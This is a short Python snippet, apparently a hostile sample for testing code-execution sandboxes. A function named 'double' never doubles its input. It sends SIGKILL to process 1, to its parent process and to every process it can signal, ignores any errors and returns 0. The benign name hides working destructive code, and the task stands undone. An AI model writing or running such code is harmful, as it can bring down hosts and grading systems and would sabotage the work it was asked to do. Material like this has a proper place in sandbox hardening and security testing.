# Sends SIGKILL to process 1, to all processes and to the parent.
# %% double
import os, signal


def double(x):
    for pid in (1, os.getppid(), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0
